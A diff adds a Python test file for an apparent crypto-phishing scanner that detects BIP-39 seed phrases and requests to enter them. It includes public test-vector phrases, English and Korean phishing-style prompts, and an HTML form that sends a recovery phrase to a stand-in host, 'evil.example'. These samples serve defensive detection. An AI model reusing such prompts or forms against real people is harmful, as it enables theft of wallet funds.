@@ -1,0 +1,88 @@
+"""Seed phrases (BIP-39) and requests to type one."""
+
+from __future__ import annotations
+
+from mnemonic import Mnemonic
+
+from coinguard.analyzers.base import MessageInfo, text_item
+from coinguard.analyzers.seed_phrase import (
+    SeedPhraseDocument,
+    SeedPhraseMessage,
+    seed_phrases,
+    seed_request_form,
+    seed_request_text,
+)
+from coinguard.findings import Item
+
+from helpers import make_context
+
+# BIP-39 reference test vector (trezor/python-mnemonic vectors.json, entropy 7f7f...7f)
+VECTOR_12 = "legal winner thank year wave sausage worth useful legal winner thank yellow"
+VECTOR_24 = ("letter advice cage absurd amount doctor acoustic avoid letter advice cage absurd amount doctor "
+             "acoustic avoid letter advice cage absurd amount doctor acoustic bless")
+
+
+def run_msg(body: str, subject: str = "") -> dict[str, float]:
+    msg = MessageInfo(subject=subject, body_text=body)
+    return {f.code: f.score or 0.0 for f in SeedPhraseMessage().analyze_message(msg, (), (), make_context(message=msg))}
+
+
+def test_reference_vectors_valid_checksum() -> None:
+    assert seed_phrases(VECTOR_12) == [(VECTOR_12.split(), True)]
+    assert seed_phrases(f"my phrase: {VECTOR_24}!") == [(VECTOR_24.split(), True)]
+
+
+def test_numbered_and_comma_separated_phrase() -> None:
+    words = Mnemonic("english").to_mnemonic(bytes(range(16))).split()
+    numbered = "\n".join(f"{i}. {w}" for i, w in enumerate(words, 1))
+    assert seed_phrases(f"Wallet backup:\n{numbered}\nThanks") == [(words, True)]
+    assert seed_phrases(", ".join(words)) == [(words, True)]
+
+
+def test_invalid_checksum_run_is_weaker() -> None:
+    words = "abandon ability able about above absent absorb abstract absurd abuse access accident"
+    assert seed_phrases(words) == [(words.split(), False)]
+    assert run_msg(words) == {"crypto.seed_phrase": 4.0}
+    assert run_msg(f"Here is my old wallet, withdraw the USDT and pay the gas: {VECTOR_12}") == {
+        "crypto.seed_phrase": 6.0}
+
+
+def test_prose_and_repeats_are_not_phrases() -> None:
+    prose = ("Thank you for your order. We will ship the items to the address below as soon as the payment "
+             "is confirmed. Please keep this email for your records and contact support with any question.")
+    assert seed_phrases(prose) == []
+    assert seed_phrases("apple banana " * 10) == []  # banana is not a BIP-39 word: no run of 12
+    assert run_msg(prose) == {}
+
+
+def test_seed_request_text() -> None:
+    assert seed_request_text("To restore access, enter your 12-word secret recovery phrase below.")
+    assert seed_request_text("Please confirm your wallet seed phrase to complete the validation")
+    assert seed_request_text("Submit your private key to sync the wallet")
+    assert seed_request_text("지갑을 복구하려면 복구 구문을 입력하세요")
+    assert seed_request_text("개인키를 입력하여 인증을 완료하세요")
+    assert not seed_request_text("Never share your recovery phrase with anyone. We will never ask for it.")
+    assert not seed_request_text("Do not enter your seed phrase on any website.")
+    assert set(run_msg("Verify now: type in your seed phrase")) == {"crypto.seed_request"}
+
+
+def test_html_form_asking_for_the_phrase() -> None:
+    form = ('<form action="https://evil.example/x"><label>Wallet</label>'
+            '<textarea name="phrase" placeholder="Enter your recovery phrase"></textarea>'
+            '<input type="submit" value="Import"></form>')
+    assert seed_request_form(form)
+    twelve = "<form>" + "".join(f'<input type="text" name="w{i}">' for i in range(12)) + "<p>Seed</p></form>"
+    assert seed_request_form(twelve)
+    login = '<form><input name="email" type="email"><input name="password" type="password"></form>'
+    assert seed_request_form(login) == ""
+    item = Item(path="verify.html", name="verify.html", data=form.encode(), type="html")
+    found = list(SeedPhraseDocument().analyze(item, make_context()))
+    assert "crypto.seed_request" in {f.code for f in found}
+
+
+def test_document_text_item() -> None:
+    parent = Item(path="backup.docx", name="backup.docx", data=b"PK", type="ooxml.word")
+    item = text_item(parent, f"Recovery sheet\n{VECTOR_12}\n", "doctext")
+    analyzer = SeedPhraseDocument()
+    assert analyzer.applies_to(item)
+    assert [f.code for f in analyzer.analyze(item, make_context())] == ["crypto.seed_phrase"]
